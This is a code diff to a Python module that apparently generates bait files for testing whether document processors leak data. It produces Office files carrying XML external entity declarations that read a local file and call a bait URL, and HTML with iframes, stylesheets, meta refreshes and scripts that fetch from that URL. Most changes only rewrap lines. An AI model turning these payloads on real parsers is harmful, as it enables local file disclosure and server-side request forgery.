@@ -62,7 +62,7 @@ def _external_entity(kind: str) -> Lure:
                 f'<!DOCTYPE x SYSTEM "{bait.url}/x.dtd" [<!ENTITY f SYSTEM "{bait.file.as_uri()}">'
                 f'<!ENTITY u SYSTEM "{bait.url}/e"><!ENTITY % p SYSTEM "{bait.url}/p"> %p;]>'
             )
-            return declaration + mark + doctype.encode() + root.replace(WORDS.encode(), b"&f;&u;", 1)
+            return declaration + mark + doctype.encode() + root.replace(b"O conselho", b"&f;&u;", 1)
 
         return rewritten(OFFICE[kind](), {part: change})
 
@@ -99,7 +99,9 @@ def _relationships(kind: str) -> Lure:
         with zipfile.ZipFile(io.BytesIO(data)) as archive:
             there = part in archive.namelist()
         if there:
-            return rewritten(data, {part: lambda xml: xml.replace(b"</Relationships>", f"{links}</Relationships>".encode())})
+            return rewritten(
+                data, {part: lambda xml: xml.replace(b"</Relationships>", f"{links}</Relationships>".encode())}
+            )
         root = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
         return rewritten(data, {}, {part: root.encode()})
 
@@ -111,10 +113,12 @@ def _linked_picture(bait: Bait) -> bytes:
     drawing = (
         f'<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata r:id="rIdX0" '
         f'xmlns:r="{REL}"/></v:shape></w:pict></w:r></w:p><w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.'
-        f'openxmlformats.org/drawingml/2006/main" xmlns:r="{REL}" r:link="rIdX1" r:embed="rIdX2"/></w:drawing></w:r></w:p>'
+        f'openxmlformats.org/drawingml/2006/main" xmlns:r="{REL}" r:link="rIdX1" r:embed="rIdX2"/></w:drawing>'
+        "</w:r></w:p>"
     )
     return rewritten(
-        _relationships("docx")(bait), {"word/document.xml": lambda xml: xml.replace(b"<w:p>", drawing.encode() + b"<w:p>", 1)}
+        _relationships("docx")(bait),
+        {"word/document.xml": lambda xml: xml.replace(b"<w:p>", drawing.encode() + b"<w:p>", 1)},
     )
 
 
@@ -138,11 +142,13 @@ LURES: Mapping[str, Lure] = {
     "frames.html": _html(
         "<iframe src='{url}/f'></iframe><iframe src='{file}'></iframe><iframe srcdoc='<img src={url}/d>'></iframe>",
         "<embed src='{url}/e'><embed src='{path}'><object data='{file}'><param value='{url}'></object>",
-        "<video src='{url}/v' poster='{file}'></video><audio src='{up}'></audio><frameset><frame src='{file}'></frameset>",
+        "<video src='{url}/v' poster='{file}'></video><audio src='{up}'></audio>",
+        "<frameset><frame src='{file}'></frameset>",
     ),
     "head.html": _html(
         "<link rel=stylesheet href='{url}/c.css'><link rel=import href='{file}'><base href='{url}/'>",
-        "<style>@import url({url}/i.css); p {{ background: url({file}) }}</style><p style='background:url({url}/b)'>a</p>",
+        "<style>@import url({url}/i.css); p {{ background: url({file}) }}</style>",
+        "<p style='background:url({url}/b)'>a</p>",
         "<meta http-equiv=refresh content='0;url={url}/r'><script src='{url}/s.js'></script>",
         "<script>fetch('{url}/js')</script>",
     ),
